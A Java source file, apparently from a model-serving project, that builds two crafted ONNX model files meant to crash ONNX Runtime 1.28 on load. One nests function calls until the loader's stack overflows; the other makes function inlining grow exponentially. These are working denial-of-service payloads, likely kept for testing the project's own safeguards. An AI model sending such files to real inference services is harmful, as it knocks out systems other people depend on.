package dev.fairlead.serving;

import ai.onnx.proto.OnnxMl.AttributeProto;
import ai.onnx.proto.OnnxMl.FunctionProto;
import ai.onnx.proto.OnnxMl.GraphProto;
import ai.onnx.proto.OnnxMl.ModelProto;
import ai.onnx.proto.OnnxMl.NodeProto;
import ai.onnx.proto.OnnxMl.OperatorSetIdProto;
import ai.onnx.proto.OnnxMl.TensorProto.DataType;
import ai.onnx.proto.OnnxMl.TensorShapeProto;
import ai.onnx.proto.OnnxMl.TypeProto;
import ai.onnx.proto.OnnxMl.ValueInfoProto;
import java.util.List;

/**
 * Well-formed ONNX files that end ONNX Runtime 1.28: functions of the model's own are inlined when it is loaded, and neither how deep
 * nor how large the whole becomes is bounded.
 */
public final class HostileModels {
    /** One less than the loader's own limit for calls of calls. */
    private static final int CALLS = 99;

    private static final String OWN = "own";

    private HostileModels() {}

    /**
     * Each function calls the next inside nested conditions; inlined, that is a thousand graphs within each other, and the loader's
     * recursion overflows its stack: a segmentation fault. About 100 kB.
     */
    public static byte[] thatOverflowsTheStack() {
        ModelProto.Builder model = model();
        for (int number = 0; number < CALLS; number++) {
            boolean last = number == CALLS - 1;
            NodeProto inner = last ? node("Relu", "", "y", "x") : node("F" + (number + 1), OWN, "y", "x", "c");
            for (int depth = 0; depth < 10; depth++) {
                inner = conditional(inner);
            }
            model.addFunctions(function("F" + number).addNode(inner));
        }
        return model.build().toByteArray();
    }

    /** Each of 40 functions calls the next twice; inlined, that is a million million operators. About 2 kB. */
    public static byte[] thatGrowsWithoutEnd() {
        ModelProto.Builder model = model();
        for (int number = 0; number < 40; number++) {
            boolean last = number == 39;
            model.addFunctions(function("F" + number)
                    .addNode(last ? node("Relu", "", "a", "x") : node("F" + (number + 1), OWN, "a", "x", "c"))
                    .addNode(last ? node("Relu", "", "y", "a") : node("F" + (number + 1), OWN, "y", "a", "c")));
        }
        return model.build().toByteArray();
    }

    private static ModelProto.Builder model() {
        return ModelProto.newBuilder()
                .setIrVersion(8)
                .addOpsetImport(opset("", 17))
                .addOpsetImport(opset(OWN, 1))
                .setGraph(GraphProto.newBuilder()
                        .setName("main")
                        .addInput(value("x", DataType.FLOAT, 1))
                        .addInput(value("c", DataType.BOOL))
                        .addOutput(value("y", DataType.FLOAT, 1))
                        .addNode(node("F0", OWN, "y", "x", "c")));
    }

    private static FunctionProto.Builder function(String name) {
        return FunctionProto.newBuilder()
                .setDomain(OWN)
                .setName(name)
                .addInput("x")
                .addInput("c")
                .addOutput("y")
                .addOpsetImport(opset("", 17))
                .addOpsetImport(opset(OWN, 1));
    }

    private static NodeProto conditional(NodeProto then) {
        return node("If", "", "y", "c").toBuilder()
                .addAttribute(branch("then_branch", then))
                .addAttribute(branch("else_branch", node("Identity", "", "y", "x")))
                .build();
    }

    private static AttributeProto branch(String name, NodeProto node) {
        ValueInfoProto anyShape = ValueInfoProto.newBuilder()
                .setName("y")
                .setType(TypeProto.newBuilder()
                        .setTensorType(TypeProto.Tensor.newBuilder().setElemType(DataType.FLOAT.getNumber())))
                .build();
        return AttributeProto.newBuilder()
                .setName(name)
                .setType(AttributeProto.AttributeType.GRAPH)
                .setG(GraphProto.newBuilder().setName(name).addOutput(anyShape).addNode(node))
                .build();
    }

    private static NodeProto node(String operator, String domain, String output, String... inputs) {
        return NodeProto.newBuilder()
                .setOpType(operator)
                .setDomain(domain)
                .addAllInput(List.of(inputs))
                .addOutput(output)
                .build();
    }

    private static OperatorSetIdProto opset(String domain, int version) {
        return OperatorSetIdProto.newBuilder()
                .setDomain(domain)
                .setVersion(version)
                .build();
    }

    private static ValueInfoProto value(String name, DataType type, long... shape) {
        TensorShapeProto.Builder dimensions = TensorShapeProto.newBuilder();
        for (long size : shape) {
            dimensions.addDim(TensorShapeProto.Dimension.newBuilder().setDimValue(size));
        }
        return ValueInfoProto.newBuilder()
                .setName(name)
                .setType(TypeProto.newBuilder()
                        .setTensorType(TypeProto.Tensor.newBuilder()
                                .setElemType(type.getNumber())
                                .setShape(dimensions)))
                .build();
    }
}
